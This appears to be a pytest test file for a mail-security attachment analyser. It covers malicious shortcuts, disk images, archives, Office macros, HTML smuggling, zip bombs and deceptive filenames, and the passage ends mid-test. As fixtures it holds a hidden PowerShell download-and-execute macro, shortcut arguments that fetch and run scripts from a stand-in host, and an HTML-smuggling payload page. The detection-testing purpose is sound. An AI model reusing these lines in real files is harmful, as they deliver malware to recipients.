"""The attachment analyser on real files built here: shortcuts, ISO images, Office documents
with VBA projects, encrypted zip and 7z archives, bombs, 1,000-deep nesting, 50 MB files,
bidi names, smuggling pages, and the ordinary business attachments that must stay clean."""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import os
import random
import struct
import tarfile
import tracemalloc
import zipfile
from collections.abc import Iterable
from datetime import date
from typing import Any

import py7zr
import pytest
from attachment_builders import (
    ELF,
    JPEG,
    MACHO,
    PDF,
    build_docx,
    build_encrypted_zip,
    build_fat12,
    build_fixed_vhd,
    build_iso,
    build_lnk,
    build_ole,
    build_pe,
    build_rar4,
    build_vba_ole,
    build_word97_with_macro,
    build_xlsm_with_macrosheet,
    build_zero_bomb,
    build_zip,
    relationship,
)
from conftest import EXAMPLE_PROFILE, require_server

from keiho.findings import Finding
from keiho.intel.lookup import IntelIndex
from keiho.intel.model import Indicator, IndicatorType, Role
from keiho.mail.attachments import analyze_attachments
from keiho.mail.attachments.archives import ArchiveWalker, Entry, Event
from keiho.mail.attachments.filetype import Kind, sniff
from keiho.mail.attachments.limits import Limits
from keiho.mail.attachments.names import double_extension, printable
from keiho.mail.attachments.passwords import mask, password_candidates
from keiho.mail.attachments.settings import Settings
from keiho.mail.context import ScanContext
from keiho.mail.message import Attachment, Message
from keiho.profile import load_profile

POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
MACRO = 'Sub AutoOpen()\n    Shell "powershell -nop -w hidden -c iex(iwr https://cdn.example/a)"\nEnd Sub\n'
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@pytest.fixture(scope="module")
def ctx() -> ScanContext:
    return ScanContext.from_profile(load_profile(EXAMPLE_PROFILE), at=date(2026, 1, 1))


@pytest.fixture(scope="module")
def limits(ctx: ScanContext) -> Limits:
    return Settings.from_rules(ctx.rules).limits


def _message(*files: tuple[str, bytes] | tuple[str, bytes, str], text: str = "", subject: str = "Documents") -> Message:
    attachments = []
    for item in files:
        name, data = item[0], item[1]
        declared = item[2] if len(item) == 3 else "application/octet-stream"
        attachments.append(Attachment(name, declared, data, len(data)))
    return Message("mail/test.eml", subject=subject, text=text, attachments=tuple(attachments))


def _by_rule(findings: Iterable[Finding]) -> dict[str, Finding]:
    out: dict[str, Finding] = {}
    for finding in findings:
        assert finding.rule not in out, f"{finding.rule} reported twice"
        assert finding.subject == "mail/test.eml"
        out[finding.rule] = finding
    return out


def _shortcut(arguments: str = '-w hidden -c "iwr https://cdn.example/p.ps1 | iex"') -> bytes:
    return build_lnk(POWERSHELL, arguments, icon=r"C:\Windows\System32\imageres.dll", working_dir=r"C:\Users\Public")


def _sevenzip(files: dict[str, bytes], password: str | None = None, encrypt_names: bool = False) -> bytes:
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", password=password, header_encryption=encrypt_names) as archive:
        for name, data in files.items():
            archive.writestr(data, name)
    return out.getvalue()


def _walk(limits: Limits, name: str, data: bytes, passwords: tuple[str, ...] = ()) -> list[Entry | Event]:
    return list(ArchiveWalker(limits, passwords).walk(name, data))


# -- what must stay clean -------------------------------------------------------------------------


def test_ordinary_business_attachments_are_clean(ctx: ScanContext) -> None:
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        info = tarfile.TarInfo("minutes.txt")
        info.size = 12
        archive.addfile(info, io.BytesIO(b"Agenda: Q3\r\n"))
    message = _message(
        ("Invoice_0603.pdf", PDF, "application/pdf"),
        ("Quarterly report.docx", build_docx(), DOCX),
        ("contracts.zip", build_zip([("2024/contract-a.pdf", PDF), ("2024/contract-b.pdf", PDF), ("2024/terms.docx", build_docx())]), "application/zip"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("image001.png", b"\x89PNG\r\n\x1a\n" + bytes(64), "image/png"),
        ("minutes.tar.gz", gzip.compress(tar.getvalue()), "application/gzip"),
        ("meeting.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "text/calendar"),
        ("請求書_2024年6月.pdf", PDF, "application/pdf"),
        text="Please find the documents attached. Password reset instructions are on the portal.",
    )
    assert analyze_attachments(message, ctx) == []


def test_a_message_without_attachments_gives_nothing(ctx: ScanContext) -> None:
    assert analyze_attachments(Message("mail/test.eml", text="Password: hunter22"), ctx) == []


# -- shortcuts, images, programs ------------------------------------------------------------------


def test_shortcut_reports_target_arguments_and_launcher(ctx: ScanContext) -> None:
    found = _by_rule(analyze_attachments(_message(("Job_Description.lnk", _shortcut())), ctx))
    lnk = found["mail.attach-lnk"]
    assert lnk.evidence["attachment"] == "Job_Description.lnk"
    assert lnk.evidence["by"] == "content"
    assert lnk.evidence["target"] == POWERSHELL
    assert "iwr https://cdn.example/p.ps1" in str(lnk.evidence["arguments"])
    assert lnk.evidence["launches"] == "powershell"
    assert lnk.evidence["icon"] == r"C:\Windows\System32\imageres.dll"
    assert lnk.score >= 70


def test_padded_shortcut_arguments_are_flagged(ctx: ScanContext) -> None:
    lnk = build_lnk(r"C:\Windows\System32\cmd.exe", " " * 120 + "/c mshta https://cdn.example/x.hta")
    evidence = _by_rule(analyze_attachments(_message(("readme.lnk", lnk)), ctx))["mail.attach-lnk"].evidence
    assert evidence["padded_arguments"] is True
    assert evidence["launches"] == "cmd, mshta"


def test_shortcut_inside_zip_names_the_member_path(ctx: ScanContext) -> None:
    archive = build_zip([("docs/readme.pdf", PDF), ("docs/readme.lnk", _shortcut())])
    found = _by_rule(analyze_attachments(_message(("invoice.zip", archive, "application/zip")), ctx))
    assert found["mail.attach-lnk"].evidence["attachment"] == "invoice.zip > docs/readme.lnk"
    assert "mail.attach-nested-archive" not in found


def test_many_shortcuts_make_one_finding_with_a_count(ctx: ScanContext) -> None:
    archive = build_zip([(f"scan-{i}.lnk", _shortcut()) for i in range(8)])
    lnk = _by_rule(analyze_attachments(_message(("scans.zip", archive)), ctx))["mail.attach-lnk"]
    assert lnk.evidence["count"] == 8
    assert lnk.evidence["attachment"] == "scans.zip > scan-0.lnk"
    assert str(lnk.evidence["also"]).endswith("and 2 more")


def test_iso_image_is_opened_and_its_shortcut_found(ctx: ScanContext) -> None:
    iso = build_iso({"Invoice_0603.lnk": _shortcut(), "readme.txt": b"open the invoice\r\n"})
    assert sniff(iso) is Kind.ISO
    found = _by_rule(analyze_attachments(_message(("Invoice_0603.iso", iso)), ctx))
    assert found["mail.attach-disk-image"].evidence["attachment"] == "Invoice_0603.iso"
    assert found["mail.attach-disk-image"].evidence["by"] == "content"
    assert found["mail.attach-lnk"].evidence["attachment"] == "Invoice_0603.iso > Invoice_0603.lnk"
    assert found["mail.attach-lnk"].evidence["launches"] == "powershell"


def test_iso_inside_zip_is_a_nested_archive(ctx: ScanContext) -> None:
    archive = build_zip([("Invoice.iso", build_iso({"Invoice.lnk": _shortcut()}))])
    found = _by_rule(analyze_attachments(_message(("Invoice.zip", archive)), ctx))
    assert found["mail.attach-nested-archive"].evidence["attachment"] == "Invoice.zip > Invoice.iso"
    assert found["mail.attach-lnk"].evidence["attachment"] == "Invoice.zip > Invoice.iso > Invoice.lnk"


@pytest.mark.parametrize(
    ("name", "data", "rule", "what"),
    [
        ("update.exe", build_pe(), "mail.attach-executable", "Windows PE executable"),
        ("node", ELF, "mail.attach-executable", "Linux ELF executable"),
        ("agent", MACHO, "mail.attach-executable", "macOS Mach-O executable"),
        ("Invoice.hta", b'<html><hta:application id="a"/><script>new ActiveXObject("WScript.Shell")</script></html>', "mail.attach-script", "HTML application (HTA)"),
        ("help.chm", b"ITSF\x03\x00\x00\x00" + bytes(96), "mail.attach-script", "compiled HTML help (CHM)"),
        ("disk.vhdx", b"vhdxfile" + bytes(4088), "mail.attach-disk-image", "VHDX virtual disk"),
        ("Wallet.dmg", bytes(4096) + b"koly" + bytes(508), "mail.attach-macos-installer", "Apple disk image (DMG)"),
        ("Setup.pkg", b"xar!\x00\x1c\x00\x01" + bytes(64), "mail.attach-macos-installer", "macOS installer package"),
    ],
)
def test_programs_scripts_and_images_are_recognised_by_content(ctx: ScanContext, name: str, data: bytes, rule: str, what: str) -> None:
    evidence = _by_rule(analyze_attachments(_message((name, data)), ctx))[rule].evidence
    assert evidence == {"attachment": name, "type": what, "by": "content"}


@pytest.mark.parametrize(
    ("name", "rule"),
    [("run.ps1", "mail.attach-script"), ("payload.js", "mail.attach-script"), ("setup.command", "mail.attach-macos-installer"), ("addin.xll", "mail.attach-executable")],
)
def test_text_with_a_runnable_extension_is_recognised_by_name(ctx: ScanContext, name: str, rule: str) -> None:
    evidence = _by_rule(analyze_attachments(_message((name, b"Start-Process calc\r\n")), ctx))[rule].evidence
    assert evidence["by"] == "name"


def test_macos_app_bundle_inside_zip_is_reported_once_by_bundle(ctx: ScanContext) -> None:
    archive = build_zip([
        ("TradePro.app/Contents/Info.plist", b"<plist/>"),
        ("TradePro.app/Contents/MacOS/TradePro", MACHO),
        ("TradePro.app/Contents/Resources/icon.icns", bytes(32)),
    ])
    found = _by_rule(analyze_attachments(_message(("TradePro.zip", archive)), ctx))
    assert found["mail.attach-macos-installer"].evidence["attachment"] == "TradePro.zip > TradePro.app"
    assert "count" not in found["mail.attach-macos-installer"].evidence
    assert found["mail.attach-executable"].evidence["attachment"] == "TradePro.zip > TradePro.app/Contents/MacOS/TradePro"


# -- Office ---------------------------------------------------------------------------------------


def test_docm_with_vba_project_is_read_by_olevba(ctx: ScanContext) -> None:
    # vbaProject.bin is a compound file built here per MS-CFB / MS-OVBA (see attachment_builders).
    docm = build_docx(vba=build_vba_ole(MACRO))
    evidence = _by_rule(analyze_attachments(_message(("Invoice.docm", docm)), ctx))["mail.attach-office-macro"].evidence
    assert evidence["vba"] is True
    assert evidence["autoexec"] == "AutoOpen"
    assert "Shell" in str(evidence["suspicious"])
    assert evidence["modules"] == "Module1.bas"


def test_word_97_document_with_macro_inside_zip(ctx: ScanContext) -> None:
    doc = build_word97_with_macro(MACRO.replace("AutoOpen", "Document_Open"))
    assert sniff(doc) is Kind.OLE
    found = _by_rule(analyze_attachments(_message(("order.zip", build_zip([("Order.doc", doc)]))), ctx))
    assert found["mail.attach-office-macro"].evidence["attachment"] == "order.zip > Order.doc"
    assert found["mail.attach-office-macro"].evidence["autoexec"] == "Document_Open"


def test_installer_package_is_an_executable_by_its_name_whatever_its_clsid(ctx: ScanContext) -> None:
    # msiexec runs a compound file named .msi even when its root CLSID is not the MSI one
    package = build_ole({"Property": b"ProductName\x00VPN" + bytes(100), "CustomAction": bytes(64)})
    assert sniff(package) is Kind.OLE
    found = _by_rule(analyze_attachments(_message(("Partner_VPN.msi", package)), ctx))
    assert found["mail.attach-executable"].evidence["by"] == "name"
    # the same compound file named as a Word 97 document is not called an executable
    assert "mail.attach-executable" not in _by_rule(analyze_attachments(_message(("Minutes.doc", package)), ctx))


def test_vhd_contents_are_read_with_7zip(ctx: ScanContext) -> None:
    from keiho.mail.attachments import sevenzip_tool

    require_server(sevenzip_tool.PROGRAM is not None, "7-Zip (7zz)", "apt-get install 7zip")
    image = build_fixed_vhd(build_fat12([("INVOICE.LNK", _shortcut()), ("README.TXT", b"Open the invoice.\n")]))
    assert sniff(image) is Kind.VHD
    found = _by_rule(analyze_attachments(_message(("Invoice_Nov.vhd", image)), ctx))
    assert found["mail.attach-disk-image"].evidence["attachment"] == "Invoice_Nov.vhd"
    lnk = found["mail.attach-lnk"].evidence
    assert lnk["attachment"] == "Invoice_Nov.vhd > INVOICE.LNK" and lnk["by"] == "content"
    assert "powershell" in str(lnk["target"]).lower()


def test_a_damaged_disk_image_is_reported_not_raised(ctx: ScanContext, monkeypatch: pytest.MonkeyPatch) -> None:
    from keiho.mail.attachments import sevenzip_tool

    broken = bytes(4096) + build_fixed_vhd(b"")[-512:]  # a footer around nothing readable
    if sevenzip_tool.PROGRAM is not None:
        events = [e for e in _walk(ctx_limits(ctx), "broken.vhd", broken) if isinstance(e, Event)]
        assert any(e.kind == "unreadable" for e in events)
    monkeypatch.setattr(sevenzip_tool, "PROGRAM", None)
    events = [e for e in _walk(ctx_limits(ctx), "Invoice.vhd", broken) if isinstance(e, Event)]
    assert [e.details["reason"] for e in events if e.kind == "unreadable"] == ["vhd contents not read: 7-Zip (7zz) is not installed"]


def test_rar_members_are_read_and_judged_by_content(ctx: ScanContext) -> None:
    archive = build_rar4([("Invoice_Nov.pdf.lnk", _shortcut()), ("docs/readme.txt", b"Open the invoice.\n")])
    assert sniff(archive) is Kind.RAR
    found = _by_rule(analyze_attachments(_message(("Invoice_Nov.rar", archive)), ctx))
    lnk = found["mail.attach-lnk"].evidence
    assert lnk["attachment"] == "Invoice_Nov.rar > Invoice_Nov.pdf.lnk" and lnk["by"] == "content"
    assert "powershell" in str(lnk["target"]).lower()


def test_rar_with_encrypted_headers_is_an_encrypted_archive(ctx: ScanContext) -> None:
    archive = build_rar4([("payload.js", b"WScript.Shell")], encrypt_headers=True)
    events = [e for e in _walk(ctx_limits(ctx), "scan.rar", archive) if isinstance(e, Event)]
    assert [(e.kind, e.details["encrypted_members"]) for e in events] == [("encrypted", "all, names hidden")]
    found = _by_rule(analyze_attachments(_message(("scan.rar", archive)), ctx))
    assert "mail.attach-encrypted-archive" in found


def test_a_compressed_rar_member_needs_unar_and_a_bad_one_is_reported(ctx: ScanContext, monkeypatch: pytest.MonkeyPatch) -> None:
    from keiho.mail.attachments import rar

    # Labelled "normal compression" but holding bytes no decompressor accepts.
    archive = build_rar4([("setup.exe", b"\x00garbage that is not RAR-compressed data" * 4)], method=0x33)
    require_server(rar.UNAR is not None, "unar (RAR decompressor)", "apt-get install unar")
    events = [e for e in _walk(ctx_limits(ctx), "tools.rar", archive) if isinstance(e, Event)]
    assert [e.kind for e in events] == ["unreadable"] and events[0].path[-1] == "setup.exe"
    monkeypatch.setattr(rar, "UNAR", None)
    events = [e for e in _walk(ctx_limits(ctx), "tools.rar", archive) if isinstance(e, Event)]
    assert [e.details["reason"] for e in events] == ["compressed RAR member not read: unar is not installed"]


def test_a_damaged_rar_is_reported_not_raised(ctx: ScanContext) -> None:
    broken = b"Rar!\x1a\x07\x00" + bytes(range(256)) * 4
    events = [e for e in _walk(ctx_limits(ctx), "broken.rar", broken) if isinstance(e, Event)]
    assert [e.kind for e in events] == ["unreadable"]


def ctx_limits(ctx: ScanContext) -> Limits:
    return Limits.from_rules(ctx.rules)


def test_excel_4_macro_sheet(ctx: ScanContext) -> None:
    evidence = _by_rule(analyze_attachments(_message(("Budget.xlsm", build_xlsm_with_macrosheet())), ctx))["mail.attach-office-macro"].evidence
    assert evidence["xlm"] is True and evidence["vba"] is False


def test_remote_template_is_reported_and_local_template_is_not(ctx: ScanContext) -> None:
    remote = relationship("rId1", "attachedTemplate", "https://cdn.example/t.dotm", external=True)
    unc = relationship("rId2", "oleObject", "\\\\203.0.113.5\\share\\x.doc", external=True)
    local = relationship("rId1", "attachedTemplate", "file:///C:\\Users\\a\\Templates\\Letter.dotm", external=True)
    link = relationship("rId3", "hyperlink", "https://www.kitsune-ex.co.jp/", external=True)
    found = _by_rule(analyze_attachments(_message(("Proposal.docx", build_docx(settings_rels=[remote], document_rels=[unc]))), ctx))
    template = found["mail.attach-office-remote-template"].evidence
    assert template["relationship"] == "oleObject; attachedTemplate"
    assert template["target"] == "\\\\203.0.113.5\\share\\x.doc; https://cdn.example/t.dotm"
    assert template["part"] == "word/_rels/document.xml.rels; word/_rels/settings.xml.rels"
    clean = build_docx(settings_rels=[local], document_rels=[link])
    assert analyze_attachments(_message(("Letter.docx", clean, DOCX)), ctx) == []


# -- names ----------------------------------------------------------------------------------------


def test_right_to_left_override_name(ctx: ScanContext) -> None:
    name = "Invoice\u202efdp.exe"
    found = _by_rule(analyze_attachments(_message((name, build_pe())), ctx))
    evidence = found["mail.attach-bidi-name"].evidence
    assert evidence["characters"] == "U+202E"
    assert evidence["appears_as"] == "Invoiceexe.pdf"
    assert evidence["real_extension"] == ".exe"
    # Evidence never carries the raw override: it would reorder the analyst's screen.
    assert all("\u202e" not in str(value) for f in found.values() for value in f.evidence.values())
    assert found["mail.attach-executable"].evidence["attachment"] == "Invoice<U+202E>fdp.exe"


def test_bidi_and_zero_width_characters_in_member_names(ctx: ScanContext) -> None:
    archive = build_zip([("scan\u2067gpj.js\u2069.zip.txt", b"x"), ("Pay\u200bment.pdf", PDF)])
    evidence = _by_rule(analyze_attachments(_message(("scans.zip", archive)), ctx))["mail.attach-bidi-name"].evidence
    assert evidence["characters"] == "U+2067, U+2069"
    assert evidence["count"] == 2


def test_whitespace_padding_and_double_extension(ctx: ScanContext) -> None:
    name = "Contract.pdf" + "\u3000" * 30 + ".scr"
    found = _by_rule(analyze_attachments(_message((name, build_pe())), ctx))
    assert found["mail.attach-bidi-name"].evidence["padding"] == 30
    assert found["mail.attach-double-extension"].evidence["shown_extension"] == ".pdf"
    assert found["mail.attach-double-extension"].evidence["real_extension"] == ".scr"
    assert "<U+3000>" in str(found["mail.attach-double-extension"].evidence["attachment"])


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("invoice.pdf.exe", ("pdf", "exe")),
        ("scan.JPG .js", ("jpg", "js")),
        ("invoice.pdf.exe. . ", ("pdf", "exe")),  # Windows drops the trailing dots and spaces
        ("invoice.pdf.zip", None),
        ("report.v2.final.docx", None),
        ("setup.exe", None),
        (".pdf.exe", ("pdf", "exe")),  # shown as ".pdf"
        ("pdf.exe", None),
    ],
)
def test_double_extension_cases(name: str, expected: tuple[str, str] | None) -> None:
    found = double_extension(name, {"pdf", "jpg"}, {"exe", "js"})
    assert (None if found is None else (found.decoy, found.real)) == expected


def test_content_contradicting_name_and_declared_type(ctx: ScanContext) -> None:
    zipped_pdf = _message(("Invoice.pdf", build_zip([("a.txt", b"x")]), "application/pdf"))
    assert _by_rule(analyze_attachments(zipped_pdf, ctx))["mail.attach-type-mismatch"].evidence == {
        "attachment": "Invoice.pdf", "claims": ".pdf", "content": "zip"}
    declared_only = _message(("statement", build_pe(), "image/jpeg"))
    assert _by_rule(analyze_attachments(declared_only, ctx))["mail.attach-type-mismatch"].evidence["claims"] == "image/jpeg"
    # Office under the wrong Office extension, and SVG declared as what it is, are honest.
    honest = _message(("report.doc", build_docx(), "application/msword"), ("chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"))
    assert analyze_attachments(honest, ctx) == []


# -- HTML smuggling -------------------------------------------------------------------------------


def test_html_smuggling_page(ctx: ScanContext) -> None:
    import base64

    payload = base64.b64encode(build_zip([("Invoice.lnk", _shortcut())])).decode()
    page = (
        "<html><body><script>var b=atob('" + payload + "');var u=new Uint8Array(b.length);"
        "for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement('a');"
        "a.href=URL.createObjectURL(new Blob([u]));a.download='Invoice.zip';a.click();</script></body></html>"
    ).encode()
    evidence = _by_rule(analyze_attachments(_message(("Remittance.html", page, "text/html")), ctx))["mail.attach-html-smuggling"].evidence
    assert "new Blob(" in str(evidence["builds"]) and "atob(" in str(evidence["builds"])
    assert "scripted click" in str(evidence["triggers"])
    assert evidence["payload"] == "zip"


def test_html_with_download_link_but_nothing_built_is_clean(ctx: ScanContext) -> None:
    page = b'<html><body><a href="https://www.kitsune-ex.co.jp/report.pdf" download>Report</a><script>document.title="x"</script></body></html>'
    assert analyze_attachments(_message(("report.html", page, "text/html")), ctx) == []


# -- encryption and passwords ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "password"),
    [
        ("Password: Kx7pQ2mZ", "Kx7pQ2mZ"),
        ("添付ファイルのパスワード：Kx7pQ2mZ", "Kx7pQ2mZ"),
        ("パスワードは「Kx7pQ2mZ」です。", "Kx7pQ2mZ"),
        ("Veuillez utiliser le mot de passe : Kx7pQ2mZ", "Kx7pQ2mZ"),
        ("압축 비밀번호: Kx7pQ2mZ", "Kx7pQ2mZ"),
        ("كلمة المرور: Kx7pQ2mZ", "Kx7pQ2mZ"),
        ("解压密码：Kx7pQ2mZ", "Kx7pQ2mZ"),
        ("The password for the archive is Kx7pQ2mZ.", "Kx7pQ2mZ"),
        ("PW:\n  Kx7pQ2mZ", "Kx7pQ2mZ"),
    ],
)
def test_password_candidates_in_several_languages(ctx: ScanContext, text: str, password: str) -> None:
    labels = Settings.from_rules(ctx.rules).password_labels
    assert password in password_candidates([text], labels, 8)


def test_password_candidates_are_bounded_and_ignore_passports() -> None:
    labels = ("password", "pass")
    assert password_candidates(["Passport: X1234567"], labels, 8) == []
    many = "\n".join(f"password: candidate{i}" for i in range(20))
    assert len(password_candidates([many], labels, 8)) == 8
    assert mask("Kx7pQ2mZ") == "Kx***" and mask("abc") == "***"


def test_zip_password_from_body_opens_it_and_its_shortcut_is_found(ctx: ScanContext) -> None:
    archive = build_encrypted_zip([("請求書.pdf", PDF), ("請求書.lnk", _shortcut())], "Kx7pQ2mZ")
    message = _message(("請求書.zip", archive, "application/zip"), text="請求書を送付します。\nパスワード：Kx7pQ2mZ")
    findings = analyze_attachments(message, ctx)
    found = _by_rule(findings)
    assert found["mail.attach-encrypted-archive"].evidence["encrypted_members"] == 2
    assert found["mail.attach-password-in-body"].evidence == {"attachment": "請求書.zip", "password": "Kx***", "format": "zip"}
    assert found["mail.attach-lnk"].evidence["attachment"] == "請求書.zip > 請求書.lnk"
    assert found["mail.attach-lnk"].evidence["by"] == "content"
    assert all("Kx7pQ2mZ" not in str(value) for f in findings for value in f.evidence.values())


def _aes_zip(members: list[tuple[str, bytes]], password: str) -> bytes:
    import pyzipper  # type: ignore[import-untyped]  # no stubs

    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(password.encode())
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def test_aes_zip_is_opened_with_the_password_from_the_body(ctx: ScanContext) -> None:
    archive = _aes_zip([("Invoice.pdf", PDF), ("Invoice.pdf.lnk", _shortcut())], "Vq8#Lm2x")
    findings = analyze_attachments(_message(("Invoice.zip", archive), text="The password is Vq8#Lm2x"), ctx)
    found = _by_rule(findings)
    assert found["mail.attach-encrypted-archive"].evidence["format"] == "zip (AES)"
    assert found["mail.attach-password-in-body"].evidence["format"] == "zip (AES)"
    assert found["mail.attach-lnk"].evidence["by"] == "content"  # read decrypted, not guessed from the name
    assert all("Vq8#Lm2x" not in str(value) for f in findings for value in f.evidence.values())
    # without the password only the names speak
    locked = _by_rule(analyze_attachments(_message(("Invoice.zip", archive), text="no password here"), ctx))
    assert locked["mail.attach-lnk"].evidence["by"] == "name" and "mail.attach-password-in-body" not in locked


def test_encrypted_zip_without_password_still_shows_member_names(ctx: ScanContext) -> None:
    archive = build_encrypted_zip([("Invoice.pdf.lnk", _shortcut())], "Kx7pQ2mZ")
    message = _message(("Invoice.zip", archive), text="Password: wrongpass1")
    found = _by_rule(analyze_attachments(message, ctx))
    assert "mail.attach-password-in-body" not in found
    assert found["mail.attach-encrypted-archive"].score < 30  # PPAP is everyday mail in Japan
    assert found["mail.attach-lnk"].evidence == {"attachment": "Invoice.zip > Invoice.pdf.lnk", "by": "name"}
    assert found["mail.attach-double-extension"].evidence["real_extension"] == ".lnk"


def test_encrypted_office_document_opened_with_password_from_body(ctx: ScanContext) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # msoffcrypto's cryptography imports warn about deprecations
        from msoffcrypto.format.ooxml import OOXMLFile  # type: ignore[import-untyped]  # no stubs

    # Real documents are larger than 4 KB; msoffcrypto cannot read back smaller ones it encrypts.
    document = build_docx(vba=build_vba_ole(MACRO), extra_parts={"word/media/image1.bin": os.urandom(8192)})
    encrypted = io.BytesIO()
    OOXMLFile(io.BytesIO(document)).encrypt("Kx7pQ2mZ", encrypted)
    assert sniff(encrypted.getvalue()) is Kind.ENCRYPTED_OFFICE
    message = _message(("Invoice.docm", encrypted.getvalue()), text="Password: Kx7pQ2mZ")
    found = _by_rule(analyze_attachments(message, ctx))
    assert found["mail.attach-encrypted-archive"].evidence["format"] == "Office document"
    assert found["mail.attach-password-in-body"].evidence["password"] == "Kx***"
    assert found["mail.attach-office-macro"].evidence["attachment"] == "Invoice.docm > (decrypted)"
    assert found["mail.attach-office-macro"].evidence["autoexec"] == "AutoOpen"


def test_7z_with_encrypted_names_opened_by_password_in_subject(ctx: ScanContext) -> None:
    hta = b'<html><hta:application/><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>'
    archive = _sevenzip({"docs/Invoice.hta": hta, "docs/readme.txt": b"hello"}, "inv-2024!", encrypt_names=True)
    message = _message(("Invoice.7z", archive), subject="Invoice (pw: inv-2024!)")
    found = _by_rule(analyze_attachments(message, ctx))
    assert found["mail.attach-encrypted-archive"].evidence["names_encrypted"] is True
    assert found["mail.attach-password-in-body"].evidence["password"] == "in***"
    assert found["mail.attach-script"].evidence["attachment"] == "Invoice.7z > docs/Invoice.hta"


def test_7z_wrong_password_is_not_a_password_finding(ctx: ScanContext) -> None:
    archive = _sevenzip({"a.pdf": PDF}, "right-one")
    found = _by_rule(analyze_attachments(_message(("a.7z", archive), text="password: wrong-one"), ctx))
    assert set(found) == {"mail.attach-encrypted-archive"}


def test_password_tries_are_bounded_per_message(limits: Limits) -> None:
    candidates = [f"guess{i}" for i in range(limits.max_password_candidates - 1)] + ["secret"]
    walker = ArchiveWalker(limits, candidates)
    opened = []
    for i in range(3):
        archive = build_encrypted_zip([(f"f{i}.pdf", PDF)], "secret")
        events = [item for item in walker.walk(f"a{i}.zip", archive) if isinstance(item, Event)]
        opened.append(any(event.kind == "password" for event in events))
    # The first archive takes 8 tries; the 4 left of 12 do not reach 'secret' for the second.
    assert opened == [True, False, False]


def test_decryption_is_bounded_per_message(limits: Limits) -> None:
    small = Limits(**{**_fields(limits), "max_decrypt_bytes": 96 * 1024})
    members = [(f"part{i}.bin", os.urandom(64 * 1024)) for i in range(3)]
    archive = build_encrypted_zip(members, "secret")
    items = _walk(small, "parts.zip", archive, ("secret",))
    reads = {item.name: item.complete for item in items if isinstance(item, Entry) and item.depth == 1}
    assert reads == {"part0.bin": True, "part1.bin": False, "part2.bin": False}
    reasons = [str(item.details["reason"]) for item in items if isinstance(item, Event) and item.kind == "unreadable"]
    assert reasons == [f"more than {96 * 1024} bytes decrypted in this message; not decrypted"]


# -- bounds ---------------------------------------------------------------------------------------


def test_nested_gigabyte_zip_bomb_stops_early_with_bounded_memory(ctx: ScanContext, limits: Limits) -> None:
    inner = build_zero_bomb(1 << 30)  # 1 GiB of zeros in about 1 MB
    outer = build_zip([("backup.zip", inner)], zipfile.ZIP_STORED)
    message = _message(("backup.zip", outer, "application/zip"))
    tracemalloc.start()
    try:
        findings = analyze_attachments(message, ctx)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    found = _by_rule(findings)
    bomb = found["mail.attach-archive-bomb"].evidence
    assert bomb["attachment"] == "backup.zip > backup.zip > zeros.bin"
    assert int(bomb["extracted_bytes"]) < limits.ratio_min_bytes + limits.chunk_bytes
    assert found["mail.attach-nested-archive"].evidence["attachment"] == "backup.zip > backup.zip"
    assert peak < 64 * 2**20, f"peak {peak} bytes"


def test_bomb_in_single_stream_compression(ctx: ScanContext) -> None:
    evidence = _by_rule(analyze_attachments(_message(("logs.bz2", bz2.compress(bytes(64 * 2**20)))), ctx))["mail.attach-archive-bomb"].evidence
    assert evidence["attachment"] == "logs.bz2 > logs"


def test_7z_declaring_more_than_the_budget_is_not_extracted(limits: Limits) -> None:
    small = Limits(**{**_fields(limits), "max_total_bytes": 4 * 2**20, "ratio_min_bytes": 2**20})
    archive = _sevenzip({"zeros.bin": bytes(3 * 2**20)})
    events = [item for item in _walk(small, "z.7z", archive) if isinstance(item, Event)]
    assert [e.kind for e in events] == ["bomb"]
    assert "declared" in str(events[0].details["reason"])


def test_thousand_deep_nesting_stops_at_the_depth_bound(ctx: ScanContext, limits: Limits) -> None:
    data = build_zip([("core.pdf", PDF)], zipfile.ZIP_STORED)
    for level in range(1000):
        data = build_zip([(f"l{level}.zip", data)], zipfile.ZIP_STORED)
    items = _walk(limits, "deep.zip", data)
    entries = [item for item in items if isinstance(item, Entry)]
    assert max(entry.depth for entry in entries) == limits.max_depth
    assert len(entries) == limits.max_depth + 1
    bombs = [item for item in items if isinstance(item, Event) and item.kind == "bomb"]
    assert len(bombs) == 1 and bombs[0].details["depth"] == limits.max_depth
    found = _by_rule(analyze_attachments(_message(("deep.zip", data)), ctx))
    assert "nested deeper than 4" in str(found["mail.attach-archive-bomb"].evidence["reason"])


def test_member_count_bound(ctx: ScanContext, limits: Limits) -> None:
    archive = build_zip([(f"f{i}.txt", b"x") for i in range(limits.max_members + 5)], zipfile.ZIP_STORED)
    found = _by_rule(analyze_attachments(_message(("many.zip", archive)), ctx))
    assert "not opened" in str(found["mail.attach-unreadable"].evidence["reason"])
    assert "mail.attach-archive-bomb" not in found


def test_zip64_directory_counts_are_read(ctx: ScanContext) -> None:
    # Large enough that guessing the worst (one member per 46 bytes) would refuse it.
    plain = build_zip([("docs/readme.lnk", _shortcut()), ("docs/scan.bin", os.urandom(64 * 1024))], zipfile.ZIP_STORED)
    end = plain.rindex(b"PK\x05\x06")
    entries, size, offset = struct.unpack_from("<HII", plain, end + 10)
    record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, entries, entries, size, offset)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, end, 1)
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    zip64 = plain[:end] + record + locator + tail
